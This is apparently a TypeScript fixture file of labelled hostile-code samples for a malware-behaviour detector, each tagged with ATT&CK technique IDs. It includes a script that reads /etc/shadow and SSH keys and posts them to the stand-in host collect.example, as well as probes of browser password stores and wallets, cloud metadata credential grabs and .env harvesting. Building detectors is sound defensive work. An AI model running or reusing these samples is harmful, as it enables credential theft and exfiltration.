// Finding out where one is, and taking the secrets that lie there.
import type { Trait } from './trait.ts'

const shell = (lines: readonly string[]): string => `#!/bin/bash\n${lines.join('\n')}\n`

export const DISCOVERY: readonly Trait[] = [
  {
    name: 'reads the keyboard and the network',
    language: 'python',
    source: `
import socket
try: open("/dev/input/event0", "rb").read(24)
except OSError: pass
try: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3)).close()
except OSError: pass
`,
    shows: { trace_watches_user: ['T1056.001'], trace_listens_to_network: ['T1040'] },
    label: 'suspicious',
    core: true,
  },
  {
    name: 'survey by commands',
    language: 'shell',
    source: shell([
      '{ id; uname -a; hostname; ps aux; ip addr; netstat -tln; cat /proc/cpuinfo /etc/passwd; w; } > /dev/shm/.i 2>&1',
    ]),
    shows: {
      trace_surveys_system: ['T1033', 'T1082', 'T1057', 'T1016', 'T1049'],
      trace_hides_files: ['T1564.001'],
    },
    label: 'unknown',
  },
  {
    name: 'survey by calls',
    language: 'c',
    source: `
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/utsname.h>
#include <unistd.h>
static void look(const char *path) {
  char text[4096];
  int file = open(path, O_RDONLY);
  if (file >= 0 && read(file, text, sizeof text) >= 0) close(file);
}
int main(void) {
  struct utsname name;
  uname(&name);
  look("/proc/cpuinfo");
  look("/proc/net/tcp");
  look("/proc/net/route");
  look("/var/run/utmp");
  DIR *all = opendir("/proc");
  for (struct dirent *one; all && (one = readdir(all));) {
    char path[300];
    if (one->d_name[0] < '0' || one->d_name[0] > '9') continue;
    snprintf(path, sizeof path, "/proc/%s/cmdline", one->d_name);
    look(path);
  }
  return 0;
}`,
    shows: { trace_surveys_system: ['T1082', 'T1016', 'T1057'] },
    label: 'unknown',
  },
  {
    name: 'password hashes, keys of ssh, sent away',
    language: 'python',
    source: `
import glob, urllib.request
loot = open("/etc/shadow").read()
for path in glob.glob("/root/.ssh/*") + ["/root/.ssh/id_rsa", "/root/.ssh/id_ed25519"]:
    try: loot += open(path).read()
    except OSError: pass
urllib.request.urlopen(urllib.request.Request("http://collect.example/up.php", data=loot.encode())).read()
`,
    shows: {
      trace_reads_stored_secrets: ['T1003.008', 'T1552.004'],
      trace_sends_data_out: ['T1041', 'T1071.001'],
      trace_sends_secrets: ['T1552.001', 'T1041'],
    },
    label: 'malicious',
    tells: ['http://collect.example/up.php', 'anna:$6$'],
  },
  {
    name: 'browser profiles and wallets',
    language: 'c',
    source: `
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
int main(void) {
  static const char *const wanted[] = {
    "/home/anna/.config/google-chrome/Default/Login Data", "/home/anna/.config/chromium/Default/Cookies",
    "/home/anna/.mozilla/firefox/a1b2.default-release/logins.json", "/home/anna/.mozilla/firefox/a1b2.default-release/key4.db",
    "/home/anna/.electrum/wallets/default_wallet", "/home/anna/.bitcoin/wallet.dat"};
  for (unsigned index = 0; index < sizeof wanted / sizeof *wanted; index++) {
    int file = open(wanted[index], O_RDONLY);
    if (file >= 0) close(file);
  }
  return 0;
}`,
    shows: {
      trace_collects_secrets: ['T1555', 'T1555.003'],
      trace_reads_stored_secrets: ['T1555.003', 'T1555'],
    },
    label: 'malicious',
  },
  {
    name: 'keys of the cloud, by its metadata service',
    language: 'shell',
    source: shell([
      'curl -s -m 3 http://169.254.169.254/latest/meta-data/iam/security-credentials/ -o /tmp/role',
      'cat ~/.aws/credentials ~/.kube/config ~/.docker/config.json 2>/dev/null >> /tmp/role',
    ]),
    shows: {
      trace_reads_stored_secrets: ['T1552.005', 'T1552.001'],
    },
    label: 'suspicious',
    tells: ['http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
    core: true,
  },
  {
    name: 'environment files and settings of web applications',
    language: 'shell',
    source: shell([
      `find / -xdev \\( -name .env -o -name wp-config.php -o -name '*.pem' \\) 2>/dev/null | head -50 > /tmp/.found`,
      `cat /var/www/html/.env /var/www/html/wp-config.php 2>/dev/null >> /tmp/.found`,
      `grep -rn 'password' /var/www /etc/fstab >> /tmp/.found`,
    ]),
    shows: { trace_reads_stored_secrets: ['T1552.001'], trace_hides_files: ['T1564.001'] },
    label: 'suspicious',
    watchedSeconds: 25,
  },
  {
    name: 'environments of other processes',
    language: 'python',
    source: `
import os
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try: open(f"/proc/{pid}/environ", "rb").read()
        except OSError: pass
`,
    shows: { trace_reads_stored_secrets: ['T1552', 'T1003.007'] },
    label: 'suspicious',
  },
]
